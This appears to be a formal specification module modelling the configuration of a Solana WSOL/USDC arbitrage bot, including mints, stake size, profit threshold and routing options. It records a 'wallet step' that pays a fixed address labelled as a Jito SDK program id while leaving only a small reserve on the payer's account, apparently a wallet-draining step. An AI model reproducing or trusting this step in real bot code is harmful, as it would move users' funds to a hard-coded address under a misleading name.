/**
 * The fixed configuration of the arbitrage loop (src/main.ts:24-27, 78-81,
 * 102, 123, 155). Amounts are in lamports, the smallest unit of SOL.
 */
module Config {
  /** A public key in its base58 text form; parsing it into a key is not modelled. */
  type Address = string

  /** WSOL mint: the asset the round trip starts and ends in. */
  const WSolMint: Address := "So11111111111111111111111111111111111111112"
  /** USDC mint: the intermediate asset. */
  const UsdcMint: Address := "EPjFWdd5AufqSSqeM2qN1xzybapC8G4wEGGkZwyTDt1v"
  /** The fixed address that the wallet step pays (named jitoSdkProgramId in the source). */
  const JitoSdkProgramId: Address := "7pr2BUjjdZy418NzTfqnpafR3GG3BvQyDyweM1R4kKA1"
  /** The relay tip account that receives the tip transfer. */
  const JitoTipAccount: Address := "Cw8CFyM9FkoMi7K7Crf6HNQqf4uEMzpKw6QNghXLvLkY"

  /** The stake sold in the first leg: 0.01 SOL. */
  const StakeLamports: int := 10_000_000
  /** The cycle goes on only when the profit is strictly above this. */
  const ProfitThresholdLamports: int := 3000
  /** What the wallet step leaves on the payer's account. */
  const WalletReserveLamports: int := 1_000_000

  /** Routing options shared by both quote requests. */
  const OnlyDirectRoutes: bool := false
  const QuoteSlippageBps: int := 0
  const QuoteMaxAccounts: int := 20

  /** Priority fee asked of the swap-instruction service. */
  const ComputeUnitPriceMicroLamports: int := 1
}
